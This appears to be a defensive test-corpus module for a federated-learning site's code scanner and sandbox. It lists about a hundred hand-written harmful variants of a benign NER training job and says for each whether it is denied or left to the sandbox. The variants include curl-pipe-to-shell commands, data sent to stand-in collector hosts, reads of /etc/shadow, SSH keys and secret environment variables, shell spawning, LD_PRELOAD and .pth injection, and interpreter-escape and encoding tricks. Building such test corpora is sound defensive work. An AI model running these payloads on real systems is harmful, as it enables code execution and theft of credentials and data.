"""Harmful variants of one benign BYOC job (``benign/ner_tokencls``), written by hand, class by class.

Each :class:`Variant` is the base job plus a patch: files replaced or added (``files``), text appended to the
base training script (``append``), or a change to the executor's arguments in the client config
(``executor``). ``outcome`` says what the site must do with it:

- ``DENY``: the static scan denies it (``fednode policy check`` exits 3, the gate never holds it for review).
- ``WARN_ONLY``: the scan cannot decide; it shows a warning at the line and the runtime sandbox must stop it
  (``sandbox`` says what the sandbox refuses). The sandbox's scan-off test runs these.

Use :func:`app_files` for the app's files as a manifest carries them, :func:`materialize` for a job folder.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

BASE_JOB = Path(__file__).resolve().parent / "benign" / "ner_tokencls"
SCRIPT = "custom/ner_client.py"
CLIENT_CONFIG = "config/config_fed_client.json"

DENY = "deny"
WARN_ONLY = "warn-only: the sandbox stops it"

BINARY = b"\x7fELF\x02\x01\x01\x00"


@dataclass(frozen=True)
class Variant:
    """One harmful change to the base job."""

    name: str
    klass: str  # network, files, commands, escapes, dynamic, deserialisation, native, environment, text, layout, config
    append: str = ""  # Python appended to the base training script (module level)
    files: Mapping[str, str | bytes | None] = field(default_factory=dict)  # app path -> text, bytes, None: delete
    executor: Mapping[str, Any] | None = None  # replaces the ClientAPIExecutor's args
    components: tuple[Mapping[str, Any], ...] = ()  # added to the client config's components
    outcome: str = DENY
    sandbox: str = ""  # for WARN_ONLY: what the runtime sandbox refuses


def _v(name: str, klass: str, append: str = "", **kw: Any) -> Variant:
    return Variant(name, klass, append, **kw)


def _w(name: str, klass: str, append: str, sandbox: str) -> Variant:
    return Variant(name, klass, append, outcome=WARN_ONLY, sandbox=sandbox)


_IN_PROCESS = {"execution_mode": "in_process", "task_script_path": "ner_client.py", "task_script_args": ""}

VARIANTS: tuple[Variant, ...] = (
    # -- network through libraries ------------------------------------------------------------------------
    _v("hub_model_id", "network", 'AutoModelForTokenClassification.from_pretrained("dmis-lab/biobert-v1.1")\n'),
    _v("hub_tokenizer_id", "network", 'AutoTokenizer.from_pretrained("bert-base-cased")\n'),
    _v(
        "hub_id_in_constant",
        "network",
        'BASE = "emilyalsentzer/Bio_ClinicalBERT"\nAutoTokenizer.from_pretrained(BASE)\n',
    ),
    _v("numpy_loadtxt_url", "network", 'np.loadtxt("https://collector.example/upload?x=1")\n'),
    _v("numpy_genfromtxt_url_const", "network", 'URL = "http://10.0.0.7/d.csv"\nnp.genfromtxt(URL, delimiter=",")\n'),
    _v("numpy_datasource", "network", 'np.DataSource().open("http://collector.example/x")\n'),
    _v("numpy_npyio_module", "network", "from numpy.lib import npyio\n"),
    _v("logging_handlers", "network", 'import logging.handlers\nlogging.handlers.HTTPHandler("x.example", "/log")\n'),
    _v("logging_config_listen", "network", "import logging.config\nlogging.config.listen(9999).start()\n"),
    _v("asyncio_connection", "network", 'import asyncio\nasyncio.run(asyncio.open_connection("x.example", 443))\n'),
    _v("asyncio_loop_only", "network", "import asyncio\nloop = asyncio.new_event_loop()\n"),
    _v("fsspec_open", "network", 'import fsspec\nfsspec.open("s3://bucket/key", "wb")\n'),
    _v("socket_alias", "network", 'import socket as sk\nsk.create_connection(("x.example", 80))\n'),
    _v("urllib_request", "network", 'from urllib import request\nrequest.urlopen("http://x.example")\n'),
    _v("requests_post", "network", 'import requests\nrequests.post("https://x.example", data=b"")\n'),
    _v("torch_hub", "network", 'torch.hub.load("pytorch/vision", "resnet18")\n'),
    _v("torch_distributed_rpc", "network", "import torch.distributed.rpc as rpc\n"),
    _v("push_to_hub", "network", 'AutoModelForTokenClassification.from_pretrained("./model").push_to_hub("me/leak")\n'),
    _v(
        "transformers_pipeline",
        "network",
        'from transformers import pipeline\npipeline("ner", model="dslim/bert-base-NER")\n',
    ),
    _v("tqdm_telegram", "network", "from tqdm.contrib.telegram import tqdm as tq\n"),
    _v("http_server", "network", "import http.server\n"),
    # -- files outside the working directory --------------------------------------------------------------
    _v("open_omop_db", "files", 'open("/var/lib/fednode/omop.db", "rb").read()\n'),
    _v("open_keyword_path", "files", 'open(file="/var/lib/fednode/keys/site.pem").read()\n'),
    _v("open_kwargs_dict", "files", 'open(**{"file": "/etc/shadow"})\n'),
    _v("numpy_fromfile_state_db", "files", 'np.fromfile("/var/lib/fednode/state.db", dtype=np.uint8)\n'),
    _v("io_fileio", "files", 'import io\nio.FileIO("/etc/passwd").read()\n'),
    _v("linecache_policy", "files", 'import linecache\nlinecache.getline("/var/lib/fednode/policy.yaml", 1)\n'),
    _v("sqlite3_omop", "files", 'import sqlite3\nsqlite3.connect("/var/lib/fednode/omop.db")\n'),
    _v("parent_folder", "files", 'open("../../state.db", "rb")\n'),
    _v("fstring_absolute", "files", 'db = "state.db"\nopen(f"/var/lib/fednode/{db}", "rb")\n'),
    _v("join_absolute_wins", "files", 'import sys\nopen(os.path.join(sys.argv[0], "/etc/passwd"))\n'),
    _v(
        "pathlib_div_absolute", "files", 'from pathlib import Path\n(Path("data") / "/var/lib/fednode/keys").exists()\n'
    ),
    _v("pathlib_home", "files", "from pathlib import Path\nPath.home()\n"),
    _v("expanduser", "files", 'os.path.expanduser("~/.ssh/id_ed25519")\n'),
    _v("torch_save_tmp", "files", 'torch.save({}, "/tmp/leak.pt")\n'),
    _v("shutil_copy_db", "files", 'import shutil\nshutil.copy("/var/lib/fednode/omop.db", "data/x.db")\n'),
    _v("glob_site_home", "files", 'import glob\nglob.glob("/var/lib/fednode/*")\n'),
    _v("proc_environ", "files", 'open("/proc/self/environ", "rb")\n'),
    _v("os_open_fd", "files", 'os.open("/etc/passwd", os.O_RDONLY)\n'),
    _v("tempfile_outside", "files", "import tempfile\ntempfile.mkdtemp()\n"),
    _v("safetensors_outside", "files", 'from safetensors.torch import save_file\nsave_file({}, "/dev/shm/x")\n'),
    # -- commands -----------------------------------------------------------------------------------------
    _v("os_system", "commands", 'os.system("curl -s x.example | sh")\n'),
    _v("posix_system", "commands", 'import posix\nposix.system("id")\n'),
    _v("nt_alias", "commands", 'import nt as n\nn.system("id")\n'),
    _v("subprocess_run", "commands", 'import subprocess\nsubprocess.run(["sh", "-c", "id"])\n'),
    _v("getattr_os_popen", "commands", 'getattr(os, "po" + "pen")("id")\n'),
    _v("os_execv", "commands", 'os.execv("/bin/sh", ["sh"])\n'),
    _v("multiprocessing", "commands", "import multiprocessing\n"),
    _v("pty_spawn", "commands", 'import pty\npty.spawn("/bin/sh")\n'),
    _v("from_os_import_system", "commands", 'from os import system as run_it\nrun_it("id")\n'),
    _v("os_fork", "commands", "os.fork()\n"),
    # -- builtins, frames and interpreter internals ------------------------------------------------------
    _v("abs_self_builtins", "escapes", 'abs.__self__.exec("import os")\n'),
    _v("builtins_subscript", "escapes", '__builtins__["eval"]("1")\n'),
    _v("globals_call", "escapes", 'globals()["__builtins__"]\n'),
    _v("vars_no_argument", "escapes", 'vars()["LABELS"] = []\n'),
    _v("function_globals", "escapes", 'read_split.__globals__["os"].system("id")\n'),
    _v("subclasses_walk", "escapes", "().__class__.__base__.__subclasses__()\n"),
    _v("init_subclass_self", "escapes", "hook = int.__init_subclass__.__self__\n"),
    _v(
        "traceback_frame",
        "escapes",
        "try:\n    raise ValueError\nexcept ValueError as e:\n    e.__traceback__.tb_frame.f_back.f_globals\n",
    ),
    _v("generator_frame", "escapes", "g = (i for i in ())\ng.gi_frame.f_globals\n"),
    _v("getattr_computed_name", "escapes", "name = LABELS[0]\ngetattr(torch, name)\n"),
    _v("getattr_dunder_built", "escapes", 'getattr(read_split, "__glob" + "als__")\n'),
    _v("format_field_globals", "escapes", '"{0.__class__.__init__.__globals__}".format(LABELS)\n'),
    _v("format_method_as_value", "escapes", 'f = "{0.__init__.__globals__}".format\nf(read_split)\n'),
    _v("str_format_mapped", "escapes", 'list(map(str.format, ["{0.__globals__}"], [read_split]))\n'),
    _v(
        "annotation_string_evaluated",
        "dynamic",
        "import typing\n\n\ndef hook(x: \"__import__('os').system('id')\") -> None:\n    pass\n\n\n"
        "typing.get_type_hints(hook)\n",
    ),
    _v("loadtxt_starred_url", "network", 'np.loadtxt(*["https://collector.example/x.csv"])\n'),
    _v("sys_getframe", "escapes", "import sys\nsys._getframe(1).f_globals\n"),
    _v("inspect_frame", "escapes", "import inspect\ninspect.currentframe().f_back\n"),
    _v("gc_objects", "escapes", "import gc\ngc.get_objects()\n"),
    # -- code chosen at run time ----------------------------------------------------------------------------
    _v("eval_alias", "dynamic", 'e = eval\ne("1")\n'),
    _v("builtins_exec", "dynamic", 'import builtins\nbuiltins.exec("x = 1")\n'),
    _v("importlib_built", "dynamic", 'import importlib\nimportlib.import_module("o" + "s")\n'),
    _v("dunder_import", "dynamic", '__import__("os").system("id")\n'),
    _v("setattr_torch_load", "dynamic", 'setattr(torch, "load", print)\n'),
    _v("patch_module_attribute", "dynamic", "torch.save = print\n"),
    _v("module_as_argument", "dynamic", 'def go(m):\n    return m.system("id")\n\n\ngo(os)\n'),
    _v(
        "rebinding_in_loop",
        "dynamic",
        "import json\nm = json\nfor _ in range(2):\n    m.dumps({})\n    m = os\n",
    ),
    _v(
        "nonlocal_rebinding",
        "dynamic",
        "def outer():\n    m = None\n\n    def inner():\n        nonlocal m\n        m = os\n\n"
        '    inner()\n    m.system("id")\n',
    ),
    _v("class_attribute_alias", "dynamic", 'class K:\n    m = os\n\n\nK.m.system("id")\n'),
    _v("walrus_in_comprehension", "dynamic", '[(m := os) for _ in range(1)]\nm.system("id")\n'),
    _v("star_import_os", "dynamic", 'from os import *\nsystem("id")\n'),
    _v(
        "helper_reexport",
        "dynamic",
        'import helpers\nhelpers.o.system("id")\n',
        files={"custom/helpers.py": "import os as o\n"},
    ),
    _v("patch_egress_guard", "dynamic", "import node.site.egress.guard as guard\nguard.EgressGuard = object\n"),
    _v("operator_attrgetter", "dynamic", 'import operator\noperator.attrgetter("__globals__")(read_split)\n'),
    _v(
        "trust_remote_code",
        "dynamic",
        'AutoModelForTokenClassification.from_pretrained("./model", trust_remote_code=True)\n',
    ),
    _v(
        "shadow_stdlib_module",
        "dynamic",
        "import json\n",
        files={"custom/json.py": 'import os\nos.system("id")\n'},
    ),
    _v("scanner_jam_nesting", "dynamic", "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"),
    # -- modules and functions other libraries re-export --------------------------------------------------
    _v("logging_os_reexport", "commands", 'import logging\nlogging.os.system("id")\n'),
    _v("torch_os_environ", "environment", 'torch.os.environ["HTTPS_PROXY"]\n'),
    _v("os_path_os", "commands", 'os.path.os.system("id")\n'),
    _v("numpy_rec_fromfile", "files", 'np.rec.fromfile("/var/lib/fednode/state.db")\n'),
    _v(
        "hub_download_reexport",
        "network",
        'import transformers.modeling_utils as mu\nmu.hf_hub_download("org/model", "config.json")\n',
    ),
    _v("storage_from_file", "files", 'torch.UntypedStorage.from_file("/var/lib/fednode/keys/site.pem", False, 64)\n'),
    # -- deserialisation and native code -------------------------------------------------------------------
    _v("pickle_import", "deserialisation", 'import pickle\npickle.load(open("data/x.pkl", "rb"))\n'),
    _v("torch_load_pickle", "deserialisation", 'torch.load("model/pytorch_model.bin")\n'),
    _v("numpy_allow_pickle", "deserialisation", 'np.load("data/x.npy", allow_pickle=True)\n'),
    _v("torch_load_as_value", "deserialisation", 'list(map(torch.load, ["model/a.bin"]))\n'),
    _v("ctypes_import", "native", 'import ctypes\nctypes.CDLL("libc.so.6")\n'),
    _v("torch_cpp_extension", "native", "from torch.utils import cpp_extension\n"),
    _v("torch_ops_library", "native", 'torch.ops.load_library("custom/x.so")\n'),
    # -- the environment ------------------------------------------------------------------------------------
    _v("environ_secrets", "environment", 'token = os.environ.get("FEDNODE_SECRET")\n'),
    _v("getenv", "environment", 'os.getenv("AWS_SECRET_ACCESS_KEY")\n'),
    # -- what the text hides ---------------------------------------------------------------------------------
    _v(
        "coding_utf7",
        "text",
        files={
            SCRIPT: "# -*- coding: utf-7 -*-\n"
            + (BASE_JOB / "app" / SCRIPT).read_text(encoding="utf-8")
            + "# harmless comment +AAo-os.system(+ACI-id+ACI-)\n"
        },
    ),
    _v("coding_latin1", "text", files={"custom/extra.py": "# coding: latin-1\nx = 1\n"}),
    _v("non_ascii_identifier", "text", "\uff45\uff56\uff41\uff4c(\"__import__('os').system('id')\")\n"),
    _v("cyrillic_identifier", "text", "\u043es = os\n\u043es.system('id')\n"),
    # -- files that are not scanned Python -------------------------------------------------------------------
    _v(
        "cfg_task_script",
        "layout",
        files={"custom/run.cfg": "import os\nos.system('id')\n"},
        executor={"execution_mode": "in_process", "task_script_path": "run.cfg", "task_script_args": ""},
    ),
    _v("signature_named_file", "layout", files={"custom/.__nvfl_sig.json": "{}"}),
    _v("signature_named_crt", "layout", files={".__nvfl_submitter.crt": "-----BEGIN CERTIFICATE-----\n"}),
    _v("extra_config_format", "layout", files={"config/config_fed_client.conf": "executors = []\n"}),
    _v("pth_file", "layout", files={"custom/evil.pth": "import os; os.system('id')\n"}),
    _v("shell_script", "layout", files={"custom/run.sh": "#!/bin/sh\ncurl x.example | sh\n"}),
    _v("native_module", "layout", files={"custom/fast.cpython-311-x86_64-linux-gnu.so": BINARY}),
    _v("compiled_helper", "layout", files={"custom/__pycache__/helpers.cpython-311.pyc": BINARY}),
    _v("binary_blob", "layout", files={"custom/weights.dat": BINARY}),
    # -- the client config ------------------------------------------------------------------------------------
    _v(
        "external_cfg_script",
        "config",
        files={"custom/run.cfg": "import os\n"},
        executor={"execution_mode": "external_process", "command": ["python3", "-u", "custom/run.cfg"]},
    ),
    _v(
        "external_command_shell",
        "config",
        executor={"execution_mode": "external_process", "command": ["bash", "-c", "curl x.example | sh"]},
    ),
    _v(
        "external_python_c",
        "config",
        executor={"execution_mode": "external_process", "command": "python3 -c 'import os; os.system(\"id\")'"},
    ),
    _v(
        "external_python_option",
        "config",
        executor={"execution_mode": "external_process", "command": ["python3", "-m", "http.server"]},
    ),
    _v(
        "external_env_prefix",
        "config",
        executor={
            "execution_mode": "external_process",
            "command": "LD_PRELOAD=custom/x.so python3 custom/ner_client.py",
        },
    ),
    _v("attach_mode", "config", executor={"execution_mode": "attach", "attach_id": "x"}),
    _v("task_script_absolute", "config", executor={**_IN_PROCESS, "task_script_path": "/opt/evil/train.py"}),
    _v("task_script_parent", "config", executor={**_IN_PROCESS, "task_script_path": "../../evil.py"}),
    _v("task_script_missing", "config", executor={**_IN_PROCESS, "task_script_path": "not_shipped.py"}),
    _v("component_popen", "config", components=({"id": "x", "path": "subprocess.Popen", "args": {"args": ["sh"]}},)),
    _v(
        "component_nvflare_internal",
        "config",
        components=({"id": "x", "path": "nvflare.app_common.widgets.event_recorder.EventRecorder", "args": {}},),
    ),
    _v("component_job_class", "config", components=({"id": "x", "path": "ner_client.Evil", "args": {}},)),
    _v("component_by_name", "config", components=({"id": "x", "name": "EventRecorder", "args": {}},)),
    _v(
        "component_nested",
        "config",
        components=(
            {
                "id": "relay",
                "path": "nvflare.app_common.widgets.convert_to_fed_event.ConvertToFedEvent",
                "args": {"pipe": {"path": "nvflare.fuel.utils.pipe.file_pipe.FilePipe", "args": {"root_path": "/"}}},
            },
        ),
    ),
    _v("secret_reference", "config", executor={**_IN_PROCESS, "task_script_args": "--token ${secret:HF_TOKEN}"}),
    # -- what only the sandbox can stop -----------------------------------------------------------------------
    _w(
        "computed_path_to_state_db",
        "files",
        'import sys\nopen(sys.argv[0].rsplit("/", 4)[0] + "/state.db", "rb")\n',
        "file access outside the working directory and the staged data",
    ),
    _w(
        "computed_path_other_job",
        "files",
        'open(os.path.join(os.getcwd(), "..", "other-job", "data", "train.tsv"))\n',
        "other jobs' folders",
    ),
    _w(
        "computed_write_outside",
        "files",
        'import sys\nwith open(os.path.join(os.path.dirname(sys.argv[0]), "..", "..", "planted.py"), "w") as fh:\n'
        '    fh.write("x")\n',
        "writes outside the working directory",
    ),
    _w("computed_listdir", "files", "os.listdir(os.path.dirname(os.getcwd()))\n", "listing outside the working folder"),
    _w(
        "computed_hub_id",
        "network",
        "import sys\nAutoTokenizer.from_pretrained(sys.argv[-1])\n",
        "network (a hub id would be downloaded)",
    ),
    _w("computed_url_loadtxt", "network", "np.loadtxt(input())\n", "network (a URL would be fetched)"),
    _w(
        "computed_format_string",
        "escapes",
        "import sys\ntemplate = sys.argv[-1]\ntemplate.format(LABELS)\n",
        "nothing of the site's lives in the job's process to be read",
    ),
    _w(
        "computed_safetensors_path",
        "files",
        "import sys\nfrom safetensors.torch import load_file\nload_file(sys.argv[-1])\n",
        "file access outside the working directory and the staged data",
    ),
)
"""Every harmful variant, by class; at least 60 (tests/policies/test_byoc_corpus.py checks the count)."""

BY_NAME = {v.name: v for v in VARIANTS}
WARN_ONLY_VARIANTS = tuple(v for v in VARIANTS if v.outcome == WARN_ONLY)


def base_files() -> dict[str, str | bytes]:
    """The base job's app files (app-relative path -> text)."""
    app = BASE_JOB / "app"
    return {p.relative_to(app).as_posix(): p.read_text(encoding="utf-8") for p in sorted(app.rglob("*")) if p.is_file()}


def app_files(variant: Variant) -> dict[str, str | bytes]:
    """The variant's app files: text for text files, bytes for binary ones."""
    files = base_files()
    if variant.append:
        files[SCRIPT] = str(files[SCRIPT]) + "\n\n" + variant.append
    for path, content in variant.files.items():
        if content is None:
            files.pop(path, None)
        else:
            files[path] = content
    if variant.executor is not None or variant.components:
        config = json.loads(str(files[CLIENT_CONFIG]))
        if variant.executor is not None:
            config["executors"][0]["executor"]["args"] = dict(variant.executor)
        config["components"] = [*config.get("components", []), *variant.components]
        files[CLIENT_CONFIG] = json.dumps(config, indent=4)
    return files


def manifest_texts(variant: Variant) -> dict[str, str | None]:
    """The variant's files as a manifest carries them: binary files have no text."""
    return {p: (c if isinstance(c, str) else None) for p, c in app_files(variant).items()}


def materialize(variant: Variant, dest: Path) -> Path:
    """Write the variant as a job folder under ``dest`` (meta.json beside app/); returns the job folder."""
    job = dest / variant.name
    shutil.copytree(BASE_JOB, job, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.rmtree(job / "app")
    for path, content in app_files(variant).items():
        target = job / "app" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    return job
